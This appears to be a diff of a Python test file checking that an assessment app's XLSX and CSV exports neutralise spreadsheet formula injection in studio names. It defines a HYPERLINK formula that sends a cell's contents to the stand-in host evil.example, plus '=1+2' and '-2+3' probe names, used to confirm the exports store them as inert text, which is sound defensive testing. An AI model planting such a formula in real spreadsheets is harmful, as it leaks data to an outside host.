@@ -3,7 +3,6 @@ answers 500, and the year and day follow the county's clock (China Standard Time
 
 from __future__ import annotations
 
-import csv
 import io
 from datetime import datetime
 
@@ -14,7 +13,7 @@ from library.assessment import scores
 from library.resources.service import IncomingFile, create_resource
 from library.studios import service as studios
 from tests.support.app import bearer
-from tests.support.stats import YEAR
+from tests.support.stats import YEAR, coded_csv_rows
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 
@@ -36,17 +35,19 @@ def test_xlsx_export_keeps_a_formula_like_title_as_text(app, client, known, samp
     formulas = [(ws.title, c.coordinate, c.value) for ws in book for r in ws.iter_rows() for c in r
                 if c.data_type == "f"]
     assert formulas == []
-    cells = [c for r in book["wang-math"].iter_rows() for c in r if c.value == FORMULA]
+    cells = [c for r in book["王丽数学名师工作室"].iter_rows() for c in r if c.value == FORMULA]
     assert len(cells) == 1 and cells[0].data_type == "s"
-    assert book["wang-math"].cell(row=cells[0].row, column=3).value == rid
+    assert book["王丽数学名师工作室"].cell(row=cells[0].row, column=3).value == rid
 
 
 def test_csv_export_neutralises_text_starting_with_a_formula_sign(app, client, known):
     with app.app_context():
         studios.create_studio("evil-studio", "=1+2 工作室", "math", "primary")
         studios.create_studio("minus-studio", "-2+3 工作室", "math", "primary")
-    response = client.get(f"/api/v1/assessment/{YEAR}.csv", headers=bearer(known.tokens["admin"]))
-    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    response = client.get(f"/api/v1/assessment/{YEAR}.csv?codes=1", headers=bearer(known.tokens["admin"]))
+    rows = coded_csv_rows(response.get_data(as_text=True))
+    people = client.get(f"/api/v1/assessment/{YEAR}.csv", headers=bearer(known.tokens["admin"])).get_data(as_text=True)
+    assert "'=1+2 工作室" in people and "\n=1+2" not in people
     names = {r["studio"]: r["studio_name"] for r in rows}
     assert names["evil-studio"] == "'=1+2 工作室" and names["minus-studio"] == "'-2+3 工作室"
     assert names["wang-math"] == "王丽数学名师工作室"
